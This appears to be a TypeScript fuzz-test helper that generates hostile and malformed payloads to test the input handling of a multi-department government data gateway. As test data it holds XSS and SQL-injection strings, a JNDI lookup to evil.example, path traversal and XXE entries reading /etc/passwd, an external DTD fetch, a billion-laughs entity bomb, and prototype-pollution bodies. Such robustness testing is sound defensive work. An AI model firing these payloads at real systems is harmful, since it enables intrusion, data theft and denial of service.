import fc from 'fast-check';
import * as iconv from 'iconv-lite';
import { TOKENS } from '../support/test-gateway';
import { YBJ_HEADER, example } from './department-support';

/**
 * fast-check generators of malformed and hostile department payloads. Each starts from the
 * department's valid example (departments.md) and corrupts it: field values replaced by script and
 * SQL fragments, impossible dates, bad check digits, oversize or binary strings, wrong types; then,
 * sometimes, the bytes themselves: truncated, re-encoded, spliced with random bytes, replaced,
 * doubled, emptied, sent under a wrong content type or token.
 */

export interface HostileRequest {
  body: Buffer;
  headers: Record<string, string>;
  /** What was done to it, for failure messages. */
  label: string;
}

/** Values an attacker or a broken system may put in any field. */
const INJECTIONS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR 1=1 --",
  "'; DROP TABLE gw_case; --",
  '" OR ""="',
  '1; SELECT SLEEP(5)',
  "admin'/*",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '=cmd|\' /C calc\'!A0',
  '%00',
  '\u0000',
  '\u202e\u0644\u0627',
  '\uFEFF',
  '\uFFFD\uFFFD',
  '😀👨‍👩‍👧',
  '𠮷䶮',
  '&lt;&amp;&#x41;',
  ']]>',
  '<![CDATA[x]]>',
  '<!--',
  '\\',
  '"',
  ',',
  '\r\n',
  ' ',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  '-1',
  '99999999999999999999999',
  '1e309',
];

/** Times that are not times, in every department's format. */
const BAD_TIMES = [
  '2026-02-30T09:00:00+08:00',
  '2026-10-23T25:00:00+08:00',
  '2026-10-23T09:30:00',
  '2026-10-23T09:30:00+99:99',
  '0000-00-00T00:00:00Z',
  '20260230093000',
  '20261023256100',
  '2026102309300',
  '00000000000000',
  '2026-02-30 09:30:00',
  '2026-13-01 00:00:00',
  '2026-10-23 9:30',
  '2026/2/30 9:00',
  '2026/13/1 9:00',
  '2026/10/23 24:00',
  '2026/10/23 9:5',
  '2026/10/23',
  'yesterday',
  '1700000000000',
];

/** Identifiers with bad check digits, lengths, dates or characters. */
const BAD_IDS = [
  '430626198503120041',
  '43062619850312004',
  '4306261985031200400',
  '430626203012310011',
  '430626198502300046',
  '43062685031200X',
  '430626851332004',
  'ABCDEFGHIJKLMNOPQR',
  '91330102MA28NBU478',
  '91330102MA28NBUI77',
  '9133010',
  '12430626MB234567830000173001000',
  '11430626MB5678902L0000110001000',
  '1143062',
  'E1234567\u0000',
];

const printable = fc.string({ unit: 'grapheme', maxLength: 40 });
const binaryish = fc.string({ unit: 'binary', maxLength: 24 });
const oversize = fc.tuple(fc.integer({ min: 201, max: 5000 }), fc.constantFrom('x', '长', '𠮷', '<', "'", '9')).map(([n, ch]) => ch.repeat(n));

/** One hostile value for a text field. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...INJECTIONS), weight: 5 },
  { arbitrary: fc.constantFrom(...BAD_TIMES), weight: 3 },
  { arbitrary: fc.constantFrom(...BAD_IDS), weight: 3 },
  { arbitrary: printable, weight: 2 },
  { arbitrary: binaryish, weight: 1 },
  { arbitrary: oversize, weight: 1 },
  { arbitrary: fc.constant(''), weight: 1 },
);

/** One hostile value for a JSON field: a text, or not a text at all. */
const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileText, weight: 10 },
  { arbitrary: fc.constantFrom(null, true, false, 0, -1, 1.5, 2 ** 53, 1e308, [], {}, [1, 2], { $ne: null }, { __proto__: { admin: true } }), weight: 2 },
  { arbitrary: fc.integer(), weight: 1 },
  { arbitrary: fc.array(hostileText, { maxLength: 3 }), weight: 1 },
  // Deeply nested: parsers and validators must not recurse without bound.
  { arbitrary: fc.integer({ min: 20, max: 300 }).map((d) => JSON.parse('['.repeat(d) + ']'.repeat(d))), weight: 1 },
);

/** A deep path set on a copy of a plain object (creating what is missing). */
function setPath(obj: Record<string, any>, path: string, value: unknown): void {
  const parts = path.split('.');
  let cur: any = obj;
  for (const p of parts.slice(0, -1)) {
    if (cur[p] === null || typeof cur[p] !== 'object') cur[p] = {};
    cur = cur[p];
  }
  cur[parts[parts.length - 1]] = value;
}

/** Byte-level damage done after serialising. */
type ByteDamage =
  | { kind: 'none' }
  | { kind: 'truncate'; at: number }
  | { kind: 'splice'; at: number; bytes: Uint8Array }
  | { kind: 'flip'; at: number; xor: number }
  | { kind: 'random'; bytes: Uint8Array }
  | { kind: 'reencode'; to: 'gbk' | 'utf16le' | 'latin1' | 'utf8' }
  | { kind: 'double' }
  | { kind: 'empty' }
  | { kind: 'bom' };

const byteDamage: fc.Arbitrary<ByteDamage> = fc.oneof(
  { arbitrary: fc.constant({ kind: 'none' as const }), weight: 10 },
  { arbitrary: fc.double({ min: 0, max: 1, noNaN: true }).map((at) => ({ kind: 'truncate' as const, at })), weight: 4 },
  { arbitrary: fc.record({ at: fc.double({ min: 0, max: 1, noNaN: true }), bytes: fc.uint8Array({ minLength: 1, maxLength: 16 }) }).map((r) => ({ kind: 'splice' as const, ...r })), weight: 3 },
  { arbitrary: fc.record({ at: fc.double({ min: 0, max: 1, noNaN: true }), xor: fc.integer({ min: 1, max: 255 }) }).map((r) => ({ kind: 'flip' as const, ...r })), weight: 2 },
  { arbitrary: fc.uint8Array({ maxLength: 512 }).map((bytes) => ({ kind: 'random' as const, bytes })), weight: 2 },
  { arbitrary: fc.constantFrom('gbk', 'utf16le', 'latin1', 'utf8').map((to) => ({ kind: 'reencode' as const, to: to as 'gbk' })), weight: 2 },
  { arbitrary: fc.constant({ kind: 'double' as const }), weight: 1 },
  { arbitrary: fc.constant({ kind: 'empty' as const }), weight: 1 },
  { arbitrary: fc.constant({ kind: 'bom' as const }), weight: 1 },
);

function damage(body: Buffer, d: ByteDamage, textEncoding: 'utf8' | 'gbk'): Buffer {
  const pos = (at: number) => Math.floor(at * body.length);
  switch (d.kind) {
    case 'none':
      return body;
    case 'truncate':
      return body.subarray(0, pos(d.at));
    case 'splice':
      return Buffer.concat([body.subarray(0, pos(d.at)), Buffer.from(d.bytes), body.subarray(pos(d.at))]);
    case 'flip': {
      const b = Buffer.from(body);
      if (b.length) b[Math.min(b.length - 1, pos(d.at))] ^= d.xor;
      return b;
    }
    case 'random':
      return Buffer.from(d.bytes);
    case 'reencode': {
      const text = textEncoding === 'gbk' ? new TextDecoder('gb18030').decode(body) : body.toString('utf8');
      return d.to === 'gbk' ? iconv.encode(text, 'gb18030') : Buffer.from(text, d.to);
    }
    case 'double':
      return Buffer.concat([body, body]);
    case 'empty':
      return Buffer.alloc(0);
    case 'bom':
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), body]);
  }
}

/** Content types a confused or hostile client sends instead of the right one. */
const WRONG_TYPES = ['text/plain', 'application/json', 'text/xml', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/octet-stream', 'text/csv', 'image/png', 'application/json; charset=utf-16', 'text/xml; charset=EBCDIC', 'text/xml; charset=utf-7', 'application/json; charset="gbk"', ';;;', 'x/y; charset=../../etc'];

/** Header-level damage: the content type, the token. */
interface HeaderDamage {
  contentType?: string;
  token?: string | null;
}

const headerDamage = (right: string): fc.Arbitrary<HeaderDamage> =>
  fc.oneof(
    { arbitrary: fc.constant<HeaderDamage>({}), weight: 30 },
    { arbitrary: fc.constantFrom(...WRONG_TYPES).map((contentType) => ({ contentType })), weight: 3 },
    { arbitrary: fc.constant({ contentType: right.toUpperCase() }), weight: 1 },
    { arbitrary: fc.constantFrom<string | null>(null, 'not-a-token', TOKENS.SCJG, TOKENS.BDC, TOKENS.RSJ, TOKENS.MZJ, TOKENS.YBJ).map((token) => ({ token })), weight: 1 },
  );

export interface EventAdapterSpec {
  dept: string;
  contentType: string;
  /** The example with a unique event id and case number. */
  base(i: number): Record<string, any>;
  /** Paths of the fields to corrupt. */
  fields: string[];
  /** Serialises a (corrupted) example; `raw` leaves markup unescaped where the format has markup. */
  serialize(obj: Record<string, any>, raw: boolean): Buffer;
  textEncoding: 'utf8' | 'gbk';
  /** Whole-payload attacks of this format (XXE, deep nesting …). */
  specials?: fc.Arbitrary<Buffer>;
}

/** `count` hostile requests for one department's `/events`, deterministic for a seed. */
export function hostileEvents(spec: EventAdapterSpec, count: number, seed: number): HostileRequest[] {
  const fieldDamage = fc.array(fc.tuple(fc.constantFrom(...spec.fields), hostileJson), { minLength: 1, maxLength: 4 });
  const one = fc.record({
    fields: fieldDamage,
    raw: fc.boolean(),
    bytes: byteDamage,
    header: headerDamage(spec.contentType),
    // One in twenty: a whole-payload attack instead of a corrupted example.
    special: spec.specials ? fc.oneof({ arbitrary: fc.constant(null), weight: 19 }, { arbitrary: spec.specials, weight: 1 }) : fc.constant(null),
  });
  const requests = fc.sample(one, { numRuns: count, seed }).map((s, i) => {
    let body: Buffer;
    let label: string;
    if (s.special) {
      body = s.special;
      label = 'special';
    } else {
      const obj = spec.base(i);
      for (const [path, value] of s.fields) setPath(obj, path, value);
      body = damage(spec.serialize(obj, s.raw), s.bytes, spec.textEncoding);
      label = `${s.fields.map(([p]) => p).join('+')} / ${s.bytes.kind}`;
    }
    const headers: Record<string, string> = { 'Content-Type': s.header.contentType ?? spec.contentType };
    const token = s.header.token === undefined ? TOKENS[spec.dept.toUpperCase()] : s.header.token;
    if (token) headers.Authorization = `Bearer ${token}`;
    return { body, headers, label: `${label}${s.header.contentType ? ` / type ${s.header.contentType}` : ''}${s.header.token !== undefined ? ' / token' : ''}` };
  });
  // The size limits, exactly: a body just under MAX_EVENT_BYTES (1 MiB) with one huge field, and
  // bodies just over it (413: refused before being read).
  const headers = { 'Content-Type': spec.contentType, Authorization: `Bearer ${TOKENS[spec.dept.toUpperCase()]}` };
  const huge = (n: number, i: number) => {
    const obj = spec.base(count + i);
    setPath(obj, spec.fields[1], 'x'.repeat(n));
    return spec.serialize(obj, false);
  };
  const under = huge(1024 * 1024 - 2048, 0);
  const limits: HostileRequest[] = [
    { body: under, headers, label: `limit: ${under.length} B` },
    { body: huge(1024 * 1024 + 1, 1), headers, label: 'limit: just over 1 MiB' },
    { body: huge(3 * 1024 * 1024, 2), headers, label: 'limit: 3 MiB' },
  ];
  return [...requests, ...limits];
}

/** Stringifies a hostile JSON value for text formats (forms, XML, CSV). */
const asText = (v: unknown): string => (typeof v === 'string' ? v : v === null || v === undefined ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v));

const xmlEscape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const gb18030 = (s: string) => iconv.encode(s, 'gb18030');

export const SCJG_SPEC: EventAdapterSpec = {
  dept: 'scjg',
  contentType: 'application/json',
  textEncoding: 'utf8',
  base: (i) => ({ ...JSON.parse(example('scjg-event.json').toString('utf8')), eventId: `hostile-scjg-${i}`, bizNo: `H-SCJG-${i}` }),
  fields: ['eventId', 'bizNo', 'platformNo', 'itemCode', 'itemName', 'status', 'statusTime', 'operator', 'operator.name', 'applicant', 'applicant.type', 'applicant.name', 'applicant.uscc', 'applicant.legalRep', 'applicant.phone', 'agent', 'agent.name', 'agent.idNo', 'agent.mobile', 'location', 'result', 'result.decision', 'result.licenseNo', 'extra'],
  serialize: (obj) => Buffer.from(JSON.stringify(obj), 'utf8'),
  specials: fc.oneof(
    fc.constantFrom('[]', '"just a string"', '123', 'null', '{"a":', '{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"x":1}}}').map((s) => Buffer.from(s)),
    fc.integer({ min: 1000, max: 10_000 }).map((d) => Buffer.from('{"a":'.repeat(d) + '1' + '}'.repeat(d))),
    fc.integer({ min: 1000, max: 5000 }).map((n) => Buffer.from(JSON.stringify({ eventId: 'many', k: Array.from({ length: n }, (_, j) => j) }))),
  ),
};

export const MZJ_SPEC: EventAdapterSpec = {
  dept: 'mzj',
  contentType: 'application/json',
  textEncoding: 'utf8',
  base: (i) => ({ ...JSON.parse(example('mzj-event.json').toString('utf8')), lsh: `hostile-mzj-${i}`, ywh: `H-MZJ-${i}` }),
  fields: ['lsh', 'ywh', 'sbh', 'sxbm', 'sxmc', 'zt', 'ztsj', 'sqr', 'sqr.xm', 'sqr.zjlx', 'sqr.sfzh', 'sqr.sjh', 'po', 'po.sfzh', 'jbr', 'jbr.xm', 'jbr.ks', 'blyj', 'bjjg', 'zsmc', 'zsbh', 'bldd'],
  serialize: (obj) => Buffer.from(JSON.stringify(obj), 'utf8'),
  specials: SCJG_SPEC.specials,
};

export const RSJ_SPEC: EventAdapterSpec = {
  dept: 'rsj',
  contentType: 'application/x-www-form-urlencoded',
  textEncoding: 'utf8',
  base: (i) => ({ ...Object.fromEntries(new URLSearchParams(example('rsj-event.txt').toString('utf8'))), xxbh: `hostile-rsj-${i}`, ywbh: `H-RSJ-${i}` }),
  fields: ['xxbh', 'ywbh', 'sbh', 'sxbm', 'sxmc', 'zt', 'ztsj', 'sqrxm', 'sqrsfzh', 'sqrsjh', 'jbr', 'blyj', 'bjjg', 'xzqh', 'extra'],
  serialize: (obj, raw) => {
    if (!raw) return Buffer.from(new URLSearchParams(Object.entries(obj).map(([k, v]): [string, string] => [k, asText(v)])).toString());
    // A servlet that forgot to percent-encode: raw bytes, & and = inside values.
    return Buffer.from(Object.entries(obj).map(([k, v]) => `${k}=${asText(v)}`).join('&'), 'utf8');
  },
  specials: fc.oneof(
    fc.constantFrom('xxbh=1&xxbh=2&zt=SL&zt=BJ', '%', '%E4%B8', 'a=%ZZ&b=%', '&&&===', 'sqrxm=%FF%FE', '=&=&=').map((s) => Buffer.from(s)),
    fc.constantFrom('xxbh=张三&sqrxm=李四', 'sxmc=就业失业登记').map((s) => gb18030(s)),
    fc.integer({ min: 1000, max: 5000 }).map((n) => Buffer.from(Array.from({ length: n }, (_, j) => `k${j}=v`).join('&'))),
  ),
};

const BDC_LEAVES = ['XXID', 'SLBH', 'SBH', 'SXBM', 'SXMC', 'HJ', 'HJSJ', 'BLR', 'BLYJ', 'ZL', 'XZQH', 'BJJG', 'ZSH', 'LZ'];

export const BDC_SPEC: EventAdapterSpec = {
  dept: 'bdc',
  contentType: 'text/xml; charset=GBK',
  textEncoding: 'gbk',
  base: (i) => ({
    XXID: `hostile-bdc-${i}`,
    SLBH: `H-BDC-${i}`,
    SBH: '',
    SXBM: '12430626MB234567830000173001000',
    SXMC: '国有建设用地使用权及房屋所有权首次登记',
    HJ: '受理',
    HJSJ: '20261023093000',
    BLR: '张三',
    BLYJ: '材料齐全，予以受理',
    QLR: { QLRMC: '李四', ZJZL: '1', ZJH: '430626198503120040', DH: '13800000000' },
    ZL: '平江县汉昌街道天岳大道88号',
    XZQH: '430626001',
    BJJG: '',
    ZSH: '',
  }),
  fields: [...BDC_LEAVES, 'QLR', 'QLR.QLRMC', 'QLR.ZJZL', 'QLR.ZJH', 'QLR.DH', 'HEAD'],
  serialize: (obj, raw) => {
    const v = (x: unknown) => (raw ? asText(x) : xmlEscape(asText(x)));
    const owners = (Array.isArray(obj.QLR) ? obj.QLR : [obj.QLR])
      .map((q: any) => (q && typeof q === 'object' ? `<QLR>${Object.entries(q).map(([k, x]) => `<${k}>${v(x)}</${k}>`).join('')}</QLR>` : `<QLR>${v(q)}</QLR>`))
      .join('');
    const head = obj.HEAD !== undefined ? `<HEAD>${v(obj.HEAD)}</HEAD>` : `<HEAD><XXID>${v(obj.XXID)}</XXID><FSSJ>20261023093015</FSSJ></HEAD>`;
    const leaves = BDC_LEAVES.filter((k) => k !== 'XXID' && obj[k] !== undefined).map((k) => `<${k}>${v(obj[k])}</${k}>`).join('');
    return gb18030(`<?xml version="1.0" encoding="GBK"?>\n<BDCSJ>${head}<YWXX>${leaves}${owners}</YWXX></BDCSJ>`);
  },
  specials: fc.oneof(
    // XXE, entity expansion, external DTDs.
    fc.constantFrom(
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><BDCSJ><HEAD><XXID>&x;</XXID></HEAD><YWXX/></BDCSJ>',
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><BDCSJ><HEAD><XXID>&c;</XXID></HEAD><YWXX/></BDCSJ>',
      '<!DOCTYPE BDCSJ SYSTEM "http://evil.example/x.dtd"><BDCSJ/>',
      '<?xml version="1.0" encoding="UTF-7"?><BDCSJ/>',
      '<?xml version="1.0" encoding="GBK"?><BDCSJ><YWXX><YWXX><YWXX/></YWXX></YWXX></BDCSJ>',
      '<BDCSJ><HEAD><XXID><![CDATA[<script>]]></XXID></HEAD><YWXX><HJ>受理</HJ></YWXX></BDCSJ>',
      '<BDCSJ><YWXX><HJ a="1" b="2">受理</HJ><?pi x?><!-- c --></YWXX></BDCSJ>',
      '<BDCSJ><YWXX></BDCSJ>',
      '<BDCSJ><BDCSJ><YWXX/></BDCSJ></BDCSJ>',
      '<a><b><c>',
      '',
      '<?xml version="1.0"?>',
    ).map((s) => gb18030(s)),
    fc.integer({ min: 33, max: 2000 }).map((d) => gb18030(`<BDCSJ><YWXX>${'<X>'.repeat(d)}${'</X>'.repeat(d)}</YWXX></BDCSJ>`)),
    fc.integer({ min: 2, max: 200 }).map((n) => gb18030(`<BDCSJ><HEAD><XXID>many-${n}</XXID></HEAD><YWXX><HJ>受理</HJ>${'<QLR><QLRMC>李四</QLRMC><ZJZL>1</ZJZL><ZJH>430626198503120040</ZJH></QLR>'.repeat(n)}</YWXX></BDCSJ>`)),
  ),
};

// ---------------------------------------------------------------------------------------------
// YBJ batch files

const YBJ_BASE_ROW = ['', '', '', '11430626MB456789960000150001000', '异地就医备案', '申报', '2026/10/23 9:05', '李四', '430626198503120040', '13800000000', '周十', '材料齐全', '', '430626'];
const YBJ_STAGES = ['申报', '受理', '审核', '办结', '不予受理'];

const csvQuote = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

interface RowDamage {
  fields: [number, string][];
  stage: number;
  minute: number;
  quote: 'proper' | 'raw';
  columns: 'same' | 'fewer' | 'more';
  bytes: ByteDamage;
}

const rowDamage: fc.Arbitrary<RowDamage> = fc.record({
  fields: fc.array(fc.tuple(fc.integer({ min: 0, max: 13 }), hostileText), { maxLength: 3 }),
  stage: fc.integer({ min: 0, max: YBJ_STAGES.length - 1 }),
  minute: fc.integer({ min: 0, max: 59 }),
  quote: fc.constantFrom('proper', 'proper', 'proper', 'raw'),
  columns: fc.constantFrom('same', 'same', 'same', 'same', 'fewer', 'more'),
  bytes: fc.oneof({ arbitrary: fc.constant({ kind: 'none' as const }), weight: 12 }, { arbitrary: byteDamage, weight: 1 }),
});

type FileDamage = { kind: 'none' } | { kind: 'truncate'; at: number } | { kind: 'random'; bytes: Uint8Array } | { kind: 'noHeader' } | { kind: 'badHeader'; name: string } | { kind: 'wrongType'; type: string } | { kind: 'gbkUndeclared' } | { kind: 'utf8DeclaredGbk' } | { kind: 'empty' } | { kind: 'lf' } | { kind: 'nul' };

const fileDamage: fc.Arbitrary<FileDamage> = fc.oneof(
  { arbitrary: fc.constant<FileDamage>({ kind: 'none' }), weight: 30 },
  { arbitrary: fc.double({ min: 0, max: 1, noNaN: true }).map<FileDamage>((at) => ({ kind: 'truncate', at })), weight: 2 },
  { arbitrary: fc.uint8Array({ maxLength: 2048 }).map<FileDamage>((bytes) => ({ kind: 'random', bytes })), weight: 1 },
  { arbitrary: fc.constant<FileDamage>({ kind: 'noHeader' }), weight: 1 },
  { arbitrary: hostileText.map<FileDamage>((name) => ({ kind: 'badHeader', name })), weight: 1 },
  { arbitrary: fc.constantFrom('application/json', 'text/plain', 'text/xml', 'multipart/form-data; boundary=x').map<FileDamage>((type) => ({ kind: 'wrongType', type })), weight: 1 },
  { arbitrary: fc.constant<FileDamage>({ kind: 'gbkUndeclared' }), weight: 1 },
  { arbitrary: fc.constant<FileDamage>({ kind: 'utf8DeclaredGbk' }), weight: 1 },
  { arbitrary: fc.constant<FileDamage>({ kind: 'empty' }), weight: 1 },
  { arbitrary: fc.constant<FileDamage>({ kind: 'lf' }), weight: 2 },
  { arbitrary: fc.constant<FileDamage>({ kind: 'nul' }), weight: 1 },
);

export interface HostileBatch extends HostileRequest {
  batchId: string;
}

/**
 * `files` YBJ files of `rows` rows each: every row is the example's row with a unique 流水号, a
 * random stage and minute (so rows come out of time order), some fields replaced by hostile
 * values, some rows cut short, given extra columns, unquoted or byte-damaged; some whole files
 * truncated, headerless, in an undeclared encoding, random, empty or of the wrong content type.
 */
export function hostileBatches(files: number, rows: number, seed: number): HostileBatch[] {
  const one = fc.record({ rows: fc.array(rowDamage, { minLength: rows, maxLength: rows }), file: fileDamage, gbk: fc.boolean(), cases: fc.integer({ min: 1, max: 10 }) });
  return fc.sample(one, { numRuns: files, seed }).map((s, f) => {
    const lines = s.rows.map((r, j) => {
      const cells = [...YBJ_BASE_ROW];
      cells[0] = `HB${String(f).padStart(4, '0')}R${String(j).padStart(3, '0')}`;
      cells[1] = `H-YBJ-${f}-${j % s.cases}`;
      cells[5] = YBJ_STAGES[r.stage];
      cells[6] = `2026/10/23 ${9 + (j % 8)}:${String(r.minute).padStart(2, '0')}`;
      if (cells[5] === '办结') cells[12] = '准予';
      for (const [c, v] of r.fields) cells[c] = v;
      let cols = cells.map((c) => (r.quote === 'proper' ? csvQuote(c) : c));
      if (r.columns === 'fewer') cols = cols.slice(0, 1 + (j % 12));
      if (r.columns === 'more') cols = [...cols, 'extra', '"x"'];
      return { text: cols.join(','), bytes: r.bytes };
    });
    const eol = s.file.kind === 'lf' ? '\n' : '\r\n';
    const encode = (t: string) => (s.gbk ? gb18030(t) : Buffer.from(t, 'utf8'));
    const parts: Buffer[] = [];
    if (!s.gbk && s.file.kind !== 'gbkUndeclared') parts.push(Buffer.from([0xef, 0xbb, 0xbf]));
    if (s.file.kind !== 'noHeader') parts.push(encode((s.file.kind === 'badHeader' ? YBJ_HEADER.replace('证件号码', s.file.name) : YBJ_HEADER) + eol));
    for (const l of lines) parts.push(damage(encode(l.text), l.bytes, s.gbk ? 'gbk' : 'utf8'), Buffer.from(eol));
    let body: Buffer = Buffer.concat(parts);
    const headers: Record<string, string> = { 'Content-Type': 'text/csv', Authorization: `Bearer ${TOKENS.YBJ}`, 'X-Batch-Id': `HB-${seed}-${f}` };
    if (s.gbk) headers['X-Charset'] = 'GBK';
    switch (s.file.kind) {
      case 'truncate':
        body = body.subarray(0, Math.floor(s.file.at * body.length));
        break;
      case 'random':
        body = Buffer.from(s.file.bytes);
        break;
      case 'wrongType':
        headers['Content-Type'] = s.file.type;
        break;
      case 'gbkUndeclared':
        // A GBK file without X-Charset (and without a BOM): its header is not UTF-8.
        if (!s.gbk) body = gb18030(body.toString('utf8'));
        delete headers['X-Charset'];
        break;
      case 'utf8DeclaredGbk':
        headers['X-Charset'] = 'GBK';
        break;
      case 'empty':
        body = Buffer.alloc(0);
        break;
      case 'nul':
        body = Buffer.concat([body.subarray(0, body.length >> 1), Buffer.alloc(64), body.subarray(body.length >> 1)]);
        break;
    }
    return { body, headers, batchId: headers['X-Batch-Id'], label: `file ${f}: ${s.file.kind}${s.gbk ? ' (GBK)' : ''}` };
  });
}
